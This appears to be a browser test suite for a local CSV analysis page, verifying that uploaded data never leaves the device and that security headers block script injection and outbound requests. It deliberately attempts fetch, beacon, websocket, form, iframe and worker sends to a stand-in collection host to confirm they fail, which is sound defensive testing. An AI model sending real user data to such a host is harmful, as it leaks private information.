// Nothing leaves the machine: tried, not believed.

import test from "node:test";
import assert from "node:assert/strict";
import { analysed, choose, drop, openBrowser, openPage, reviewsCsv } from "./support/page.js";

const WORD = "Zanzibarquark"; // stands in the data and must stand in no request
const ELSEWHERE = "http://elsewhere.example/collect";

test("a file is analysed and no request leaves the origin or carries a word of it", async (t) => {
  const site = await openBrowser();
  t.after(() => site.close());
  const { page, sent, complaints } = await openPage(site);
  await choose(page, [{ name: `${WORD}.csv`, buffer: Buffer.from(reviewsCsv(500, { word: WORD })) }]);
  await analysed(page, `${WORD}.csv`);
  await drop(page, { name: "dropped.csv", text: reviewsCsv(300, { word: WORD }) });
  await analysed(page, "dropped.csv");
  await page.waitForTimeout(500);

  assert.ok(sent.length > 10, "requests are seen at all");
  for (const { url, body, headers } of sent) {
    assert.ok(url.startsWith(site.url) || url.startsWith(`blob:${site.url}`), `a request to ${url}`);
    assert.ok(!`${decodeURIComponent(url)} ${body} ${headers}`.includes(WORD), `the word is in the request to ${url}`);
  }
  assert.deepEqual(site.escaped, []);
  assert.deepEqual(complaints, []);
});

test("the trap of these tests does catch what leaves", async (t) => {
  const site = await openBrowser();
  t.after(() => site.close());
  const { page } = await openPage(site, { bypassCSP: true });
  await page.evaluate((url) => fetch(url, { mode: "no-cors" }).catch(() => {}), ELSEWHERE);
  assert.deepEqual(site.escaped, [ELSEWHERE]);
});

for (const [host, headers] of /** @type {[string, {[name: string]: string} | undefined][]} */ ([
  ["with the headers we recommend", undefined],
  ["that sends no headers at all", {}],
])) {
  test(`on a host ${host}, the page can neither be made to run foreign script nor to send`, async (t) => {
    const site = await openBrowser({ headers });
    t.after(() => site.close());
    const { page } = await openPage(site);
    const outcome = await page.evaluate(async (elsewhere) => {
      /** @type {any} */ const world = globalThis;
      const inline = document.createElement("script");
      inline.textContent = "globalThis.inlineRan = true";
      document.body.append(inline);
      const foreign = document.createElement("script");
      foreign.src = `${elsewhere}.js`;
      document.body.append(foreign);
      document.body.insertAdjacentHTML("beforeend", `<img src="${elsewhere}.png"><form action="${elsewhere}" method="post"></form><iframe src="${elsewhere}"></iframe>`);
      /** @type {HTMLFormElement} */ (document.querySelector("form")).submit();
      setTimeout(/** @type {any} */ ("globalThis.evaluated = true")); // as eval, but by the page itself
      const fetched = await fetch(elsewhere, { mode: "no-cors" }).then(() => true, () => false);
      const beacon = navigator.sendBeacon(elsewhere, "data");
      const socket = await new Promise((resolve) => {
        try {
          const opened = new WebSocket(elsewhere.replace("http", "ws"));
          opened.onopen = () => resolve(true);
          opened.onerror = () => resolve(false);
        } catch { resolve(false); }
      });
      return { inline: world.inlineRan === true, evaluated: world.evaluated === true, fetched, socket, beacon };
    }, ELSEWHERE);
    await page.waitForTimeout(300);
    assert.deepEqual({ ...outcome, beacon: false }, { inline: false, evaluated: false, fetched: false, socket: false, beacon: false });
    assert.deepEqual(site.escaped, []);
  });
}

for (const [when, headers, visits] of /** @type {[string, {[name: string]: string} | undefined, number][]} */ ([
  ["on a host with our headers, at the first visit", undefined, 1],
  ["on a host that sends no headers, from the second visit on", {}, 2],
])) {
  test(`a worker cannot send either: ${when}`, async (t) => {
    const site = await openBrowser({ headers });
    t.after(() => site.close());
    const { page } = await openPage(site);
    if (visits > 1) {
      await page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 60_000 });
      await page.reload();
    }
    await page.waitForFunction(() => document.getElementById("message")?.hidden);
    const worker = page.workers()[0] ?? await page.waitForEvent("worker");
    const fetched = await worker.evaluate((url) => fetch(url, { mode: "no-cors" }).then(() => true, () => false), ELSEWHERE);
    assert.equal(fetched, false);
    assert.deepEqual(site.escaped, []);
  });
}

test("what the browser keeps between visits holds no value of a file", async (t) => {
  const site = await openBrowser();
  t.after(() => site.close());
  const { page, context } = await openPage(site);
  await choose(page, [{ name: "reviews.csv", buffer: Buffer.from(reviewsCsv(300, { word: WORD })) }]);
  await analysed(page, "reviews.csv");
  const state = JSON.stringify(await context.storageState({ indexedDB: true }));
  assert.ok(!state.includes(WORD));
  const kept = await page.evaluate(async (word) => {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        if ((await (await cache.match(request))?.text())?.includes(word)) return request.url;
      }
    }
    return "";
  }, WORD);
  assert.equal(kept, "");
});
